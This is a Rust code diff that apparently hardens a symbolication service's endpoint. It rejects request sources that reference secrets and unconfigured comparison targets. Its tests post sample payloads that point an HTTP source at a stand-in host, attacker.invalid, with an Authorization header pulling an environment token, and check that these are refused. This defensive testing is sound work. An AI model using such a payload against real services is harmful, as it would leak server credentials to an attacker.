@@ -1,12 +1,16 @@
+use std::sync::Arc;
+
 use axum::extract;
+use axum::http::StatusCode;
 use axum::response::Json;
 use serde::{Deserialize, Serialize};
 
-use symbolicator_sources::SourceConfig;
+use symbolicator_service::services::download::contains_secret_references;
+use symbolicator_sources::{SentrySourceConfig, SourceConfig};
 
 use crate::service::{
-    RawObjectInfo, RawStacktrace, RequestOptions, RequestService, Scope, Signal, StacktraceOrigin,
-    SymbolicateStacktraces, SymbolicationResponse,
+    KernelSpace, RawObjectInfo, RawStacktrace, RequestOptions, RequestService, Scope, Signal,
+    StacktraceOrigin, SymbolicateStacktraces, SymbolicationResponse,
 };
 use crate::utils::sentry::ConfigureScope;
 
@@ -19,6 +23,64 @@ pub struct SymbolicationRequestQueryParams {
     pub timeout: Option<u64>,
     #[serde(default)]
     pub scope: Scope,
+    /// The name of source configurations stored for the scope, used instead of the default
+    /// sources.
+    #[serde(default)]
+    pub stored_sources: Option<String>,
+}
+
+impl SymbolicationRequestQueryParams {
+    /// Returns the sources of requests which do not list their own sources.
+    ///
+    /// These are the stored sources referenced by `stored_sources` if given, or the sources
+    /// configured on the server otherwise.
+    pub fn default_sources(
+        &self,
+        service: &RequestService,
+    ) -> Result<Arc<[SourceConfig]>, ResponseError> {
+        let Some(ref name) = self.stored_sources else {
+            return Ok(service.config().default_sources());
+        };
+        service
+            .stored_sources()
+            .get(&self.scope, name)
+            .ok_or_else(|| {
+                let err = anyhow::anyhow!("unknown stored sources `{name}`");
+                (StatusCode::BAD_REQUEST, err).into()
+            })
+    }
+}
+
+/// Validates the sources sent along with a request.
+///
+/// Secret references are only resolved for configured and stored sources, so requests must not
+/// use them in their own sources.
+pub fn request_sources(sources: Vec<SourceConfig>) -> Result<Arc<[SourceConfig]>, ResponseError> {
+    if contains_secret_references(&sources) {
+        return Err((
+            StatusCode::BAD_REQUEST,
+            "sources of requests must not reference secrets",
+        )
+            .into());
+    }
+    Ok(sources.into())
+}
+
+/// Validates the Sentry source sent along with a JavaScript or hybrid request.
+///
+/// Like [`request_sources`], this rejects secret references, as the resolved token would be sent
+/// to the URL chosen by the request.
+pub fn request_sentry_source(
+    source: SentrySourceConfig,
+) -> Result<Arc<SentrySourceConfig>, ResponseError> {
+    if contains_secret_references(&source) {
+        return Err((
+            StatusCode::BAD_REQUEST,
+            "sources of requests must not reference secrets",
+        )
+            .into());
+    }
+    Ok(Arc::new(source))
 }
 
 impl ConfigureScope for SymbolicationRequestQueryParams {
@@ -29,6 +91,9 @@ impl ConfigureScope for SymbolicationRequestQueryParams {
         } else {
             scope.set_tag("request.timeout", "none");
         }
+        if let Some(ref name) = self.stored_sources {
+            scope.set_tag("request.stored_sources", name);
+        }
     }
 }
 
@@ -57,10 +122,20 @@ pub async fn symbolicate_frames(
     params.configure_scope();
 
     let sources = match body.sources {
-        Some(sources) => sources.into(),
-        None => service.config().default_sources(),
+        Some(sources) => request_sources(sources)?,
+        None => params.default_sources(&service)?,
     };
 
+    if let Some(ref url) = body.options.compare_with {
+        if !service.config().comparison_targets.contains(url) {
+            return Err((
+                StatusCode::BAD_REQUEST,
+                "compare_with is not one of the configured comparison_targets",
+            )
+                .into());
+        }
+    }
+
     let request_id = service.symbolicate_stacktraces(
         SymbolicateStacktraces {
             scope: params.scope,
@@ -69,6 +144,7 @@ pub async fn symbolicate_frames(
             origin: StacktraceOrigin::Symbolicate,
             stacktraces: body.stacktraces,
             modules: body.modules.into_iter().map(From::from).collect(),
+            kernel_space: KernelSpace::Unknown,
         },
         body.options,
     )?;
@@ -148,6 +224,58 @@ mod tests {
         assert_eq!(response.status(), StatusCode::OK);
     }
 
+    #[tokio::test]
+    async fn test_secret_reference_in_sources() {
+        test::setup();
+
+        let server = test::server_with_default_service();
+
+        let payload = r##"{
+            "stacktraces": [],
+            "modules": [],
+            "sources": [{
+                "type": "http",
+                "id": "attacker",
+                "url": "https://attacker.invalid/",
+                "headers": {"Authorization": "${env:SYMBOLICATOR_TOKEN}"}
+            }]
+        }"##;
+
+        let response = Client::new()
+            .post(server.url("/symbolicate"))
+            .header("Content-Type", "application/json")
+            .body(payload)
+            .send()
+            .await
+            .unwrap();
+
+        assert_eq!(response.status(), StatusCode::BAD_REQUEST);
+    }
+
+    #[tokio::test]
+    async fn test_unknown_comparison_target() {
+        test::setup();
+
+        let server = test::server_with_default_service();
+
+        let payload = r##"{
+            "stacktraces": [],
+            "modules": [],
+            "sources": [],
+            "options": {"compare_with": "https://attacker.invalid/"}
+        }"##;
+
+        let response = Client::new()
+            .post(server.url("/symbolicate"))
+            .header("Content-Type", "application/json")
+            .body(payload)
+            .send()
+            .await
+            .unwrap();
+
+        assert_eq!(response.status(), StatusCode::BAD_REQUEST);
+    }
+
     /// Asserts that disabling requesting for DIF candidates info works.
     #[tokio::test]
     async fn test_no_dif_candidates() {